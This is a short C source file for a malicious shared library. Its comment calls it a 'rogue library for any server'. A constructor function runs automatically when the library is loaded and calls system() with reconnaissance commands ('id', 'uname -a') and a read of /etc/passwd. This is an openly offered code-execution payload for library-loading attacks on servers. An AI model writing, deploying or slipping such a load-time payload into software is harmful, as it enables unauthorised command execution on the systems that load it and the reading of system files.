/* A rogue library for any server: it runs a shell as it is loaded. */
#include <stdlib.h>

__attribute__((constructor)) static void loaded(void) {
  if (system("id; uname -a; cat /etc/passwd >/dev/null")) {
    return;
  }
}
